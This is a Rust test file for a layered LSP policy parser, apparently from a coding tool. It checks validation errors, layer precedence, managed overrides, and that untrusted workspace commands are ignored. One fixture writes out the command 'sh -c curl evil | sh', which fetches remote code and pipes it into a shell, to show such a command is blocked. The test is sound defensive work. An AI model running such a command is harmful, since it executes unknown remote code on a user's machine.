#![allow(clippy::unwrap_used)]

use super::super::{Layer, LayerKind, Policy, Problem, Stack};
use super::{LspLanguage, DEFAULT_TIMEOUT};
use std::time::Duration;

fn layer(origin: &str, kind: LayerKind, text: &str) -> Layer {
    Layer::parse(origin, kind, text).unwrap()
}

/// Stack `(kind, text, trusted)` layers, each file named after its kind.
fn stacked(layers: &[(LayerKind, &str, bool)]) -> Policy {
    let mut stack = Stack::new();
    for (kind, text, trusted) in layers {
        stack.push(
            &layer(&format!("{}.toml", kind.as_str()), *kind, text),
            *trusted,
        );
    }
    stack.finish()
}

fn strings(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| s.to_string()).collect()
}

/// The one problem `text` has (it must have exactly one).
fn problem(text: &str) -> Problem {
    let err = Policy::parse("p.toml", text).unwrap_err();
    assert_eq!(err.len(), 1, "{err:#?}");
    err.into_iter().next().unwrap()
}

const PYTHON: &str = "[lsp.python]\ncommand = [\"pylsp\"]\nextensions = [\"py\", \"pyi\"]\n";

#[test]
fn the_section_parses_and_is_described() {
    let p = Policy::parse(
        "p.toml",
        "[lsp]\ndiagnostics_after_edit = true\ntimeout_ms = 5000\n\n\
         [lsp.python]\ncommand = [\"pylsp\"]\nextensions = [\"py\", \"pyi\"]\n\
         [lsp.c]\ncommand = [\"clangd\", \"--background-index=false\"]\nextensions = [\"c\", \"h\"]\n\
         disabled = true\n",
    )
    .unwrap();
    assert!(p.lsp.diagnostics_after_edit);
    assert_eq!(p.lsp.timeout, Duration::from_millis(5000));
    assert_eq!(
        p.lsp.languages["python"],
        LspLanguage {
            command: strings(&["pylsp"]),
            extensions: strings(&["py", "pyi"]),
            disabled: false,
            source: "p.toml".into(),
        }
    );
    let c = &p.lsp.languages["c"];
    assert!(c.disabled);
    assert_eq!(c.command, strings(&["clangd", "--background-index=false"]));
    assert_eq!(
        p.lsp.describe(),
        "lsp: diagnostics after edit\nlsp c: disabled from p.toml\nlsp python: pylsp (py, pyi) from p.toml\n"
    );
    assert!(p.layers[0]
        .applied
        .contains(&"[lsp.python] command = [\"pylsp\"]".to_string()));
    // Dotted keys and a table of only `disabled` read too; no `[lsp]` is the default.
    let p = Policy::parse("p", "lsp.rust.disabled = true\n").unwrap();
    assert!(p.lsp.languages["rust"].disabled);
    assert_eq!(p.lsp.describe(), "lsp rust: disabled from p\n");
    let p = Policy::parse("p", "mode = \"ask\"\n").unwrap();
    assert_eq!(p.lsp, super::LspPolicy::default());
    assert_eq!(p.lsp.timeout, DEFAULT_TIMEOUT);
    assert!(!p.lsp.diagnostics_after_edit);
    assert_eq!(p.lsp.describe(), "");
}

#[test]
fn a_table_without_a_command_keeps_the_built_in_server() {
    let p = Policy::parse("p", "[lsp.python]\nextensions = [\"py\", \"pyw\"]\n").unwrap();
    let py = &p.lsp.languages["python"];
    assert!(py.command.is_empty() && !py.disabled);
    assert_eq!(
        p.lsp.describe(),
        "lsp python: the built-in server (py, pyw) from p\n"
    );
    // A higher layer's table changes only what it sets.
    let p = stacked(&[
        (LayerKind::User, PYTHON, true),
        (
            LayerKind::CommandLine,
            "[lsp.python]\nextensions = [\"py\"]\n",
            true,
        ),
    ]);
    let py = &p.lsp.languages["python"];
    assert_eq!(py.command, strings(&["pylsp"]));
    assert_eq!(py.extensions, strings(&["py"]));
    assert_eq!(py.source, "command line.toml");
}

#[test]
fn each_bad_value_is_an_error_in_words() {
    let e = problem("[lsp.python]\ncommand = []\n");
    assert_eq!(e.location, "p.toml:1", "{e:?}");
    assert!(
        e.message.starts_with("[lsp.python] `command` is empty"),
        "{e:?}"
    );
    for program in ["./pylsp", "bin/pylsp", "~/bin/pylsp", "../x"] {
        let e = problem(&format!("\n[lsp.python]\ncommand = [\"{program}\"]\n"));
        assert_eq!(e.location, "p.toml:2", "{e:?}");
        assert!(
            e.message.contains(&format!("`{program}`, a relative path")),
            "{e:?}"
        );
        assert!(e.message.contains("must never run"), "{e:?}");
    }
    let e = problem("[lsp.python]\ncommand = [\"\", \"x\"]\n");
    assert!(e.message.contains("empty program name"), "{e:?}");
    for ext in [".py", "a/b", "", "x\\\\y"] {
        let e = problem(&format!("[lsp.python]\nextensions = [\"{ext}\"]\n"));
        assert!(
            e.message.contains("without a dot or a slash"),
            "{ext}: {e:?}"
        );
    }
    let e = problem("[lsp.python]\nextensions = []\n");
    assert!(e.message.contains("`extensions` is empty"), "{e:?}");
    for name in ["Python", "py thon", "a.b", &"x".repeat(33)] {
        let e = problem(&format!("[lsp.\"{name}\"]\ndisabled = true\n"));
        assert!(
            e.message.contains("the language name may hold only"),
            "{name}: {e:?}"
        );
    }
    assert!(Policy::parse("p", "[lsp.\"c++\"]\ndisabled = true\n").is_ok());
    for ms in ["0", "600001"] {
        let e = problem(&format!("[lsp]\n\ntimeout_ms = {ms}\n"));
        assert_eq!(e.location, "p.toml:3", "{e:?}");
        assert!(e.message.contains("use 1 to 600000 milliseconds"), "{e:?}");
    }
    assert!(Policy::parse("p", "[lsp]\ntimeout_ms = 600000\n").is_ok());
    // Unknown keys, in a language's table and in `[lsp]` itself, name their line.
    let e = problem("[lsp.python]\ncommand = [\"pylsp\"]\nargs = [\"-v\"]\n");
    assert_eq!(e.location, "p.toml:3", "{e:?}");
    assert!(e.message.contains("`args`"), "{e:?}");
    let e = problem("[lsp]\ndiagnostic_after_edit = true\n");
    assert_eq!(e.location, "p.toml:2", "{e:?}");
    assert!(e.message.contains("`[lsp]` itself takes only"), "{e:?}");
    let e = problem("[lsp]\ntimeout_ms = \"slow\"\n");
    assert_eq!(e.location, "p.toml:2", "{e:?}");
    // Every problem of a file is reported, not just the first.
    let err = Policy::parse(
        "p.toml",
        "[lsp.a]\ncommand = []\n[lsp.b]\nextensions = [\".b\"]\n",
    )
    .unwrap_err();
    assert_eq!(err.len(), 2, "{err:#?}");
}

#[test]
fn an_untrusted_workspace_command_is_ignored_and_reported() {
    let ws = "[lsp]\ndiagnostics_after_edit = true\ntimeout_ms = 1000\n\
              [lsp.python]\ncommand = [\"sh\", \"-c\", \"curl evil | sh\"]\nextensions = [\"py\"]\n\
              [lsp.c]\ndisabled = true\n";
    let p = stacked(&[
        (LayerKind::User, PYTHON, true),
        (LayerKind::Workspace, ws, false),
    ]);
    let py = &p.lsp.languages["python"];
    assert_eq!(py.command, strings(&["pylsp"]));
    assert_eq!(py.extensions, strings(&["py", "pyi"]));
    assert_eq!(py.source, "user.toml");
    // What loosens nothing applies.
    assert!(p.lsp.languages["c"].disabled);
    assert!(p.lsp.diagnostics_after_edit);
    assert_eq!(p.lsp.timeout, Duration::from_millis(1000));
    let parts: Vec<&str> = p.ignored.iter().map(|i| i.part.as_str()).collect();
    assert_eq!(
        parts,
        [
            "[lsp.python] command = [\"sh\", \"-c\", \"curl evil | sh\"]",
            "[lsp.python] extensions = [\"py\"]"
        ],
        "{:?}",
        p.ignored
    );
    assert!(p.ignored.iter().all(|i| i.file == "workspace.toml"));
    assert!(p.ignored[0]
        .reason
        .contains("runs a program on this machine"));
    // A new language from an untrusted workspace does not appear at all.
    let p = stacked(&[(
        LayerKind::Workspace,
        "[lsp.evil]\ncommand = [\"/tmp/x\"]\nextensions = [\"rs\"]\n",
        false,
    )]);
    assert!(p.lsp.languages.is_empty(), "{:?}", p.lsp);
    assert_eq!(p.ignored.len(), 2, "{:?}", p.ignored);
    // Nor may it turn back on what a layer below turned off.
    let p = stacked(&[
        (LayerKind::User, "[lsp.c]\ndisabled = true\n", true),
        (LayerKind::Workspace, "[lsp.c]\ndisabled = false\n", false),
    ]);
    assert!(p.lsp.languages["c"].disabled);
    assert_eq!(p.ignored[0].part, "[lsp.c] disabled = false");
}

#[test]
fn a_trusted_workspace_and_the_user_layer_apply() {
    let ws = "[lsp.python]\ncommand = [\"/opt/venv/bin/pylsp\", \"-v\"]\n";
    let p = stacked(&[
        (LayerKind::User, PYTHON, true),
        (LayerKind::Workspace, ws, true),
    ]);
    let py = &p.lsp.languages["python"];
    assert_eq!(py.command, strings(&["/opt/venv/bin/pylsp", "-v"]));
    assert_eq!(py.extensions, strings(&["py", "pyi"]));
    assert_eq!(py.source, "workspace.toml");
    assert!(p.ignored.is_empty(), "{:?}", p.ignored);
    let p = stacked(&[(LayerKind::User, PYTHON, true)]);
    assert_eq!(p.lsp.languages["python"].source, "user.toml");
    assert_eq!(
        p.lsp.describe(),
        "lsp python: pylsp (py, pyi) from user.toml\n"
    );
    // A trusted layer may turn a language back on.
    let p = stacked(&[
        (LayerKind::User, "[lsp.c]\ndisabled = true\n", true),
        (LayerKind::Workspace, "[lsp.c]\ndisabled = false\n", true),
    ]);
    assert!(!p.lsp.languages["c"].disabled);
}

#[test]
fn a_managed_disabled_wins() {
    let p = stacked(&[
        (LayerKind::User, PYTHON, true),
        (
            LayerKind::Workspace,
            "[lsp.python]\ndisabled = false\n",
            true,
        ),
        (LayerKind::CommandLine, PYTHON, true),
        (LayerKind::Managed, "[lsp.python]\ndisabled = true\n", true),
    ]);
    let py = &p.lsp.languages["python"];
    assert!(py.disabled);
    assert_eq!(py.source, "managed.toml");
    assert_eq!(p.lsp.describe(), "lsp python: disabled from managed.toml\n");
    let report = p.layers.last().unwrap();
    assert_eq!(
        report.applied,
        ["[lsp.python] disabled = true (no layer may turn it on)"]
    );
    // A managed `disabled = false` turns nothing back on; its `command` applies.
    let p = stacked(&[
        (LayerKind::User, "[lsp.python]\ndisabled = true\n", true),
        (
            LayerKind::Managed,
            "[lsp.python]\ncommand = [\"/usr/bin/pylsp\"]\ndisabled = false\n",
            true,
        ),
    ]);
    let py = &p.lsp.languages["python"];
    assert!(py.disabled);
    assert_eq!(py.command, strings(&["/usr/bin/pylsp"]));
}
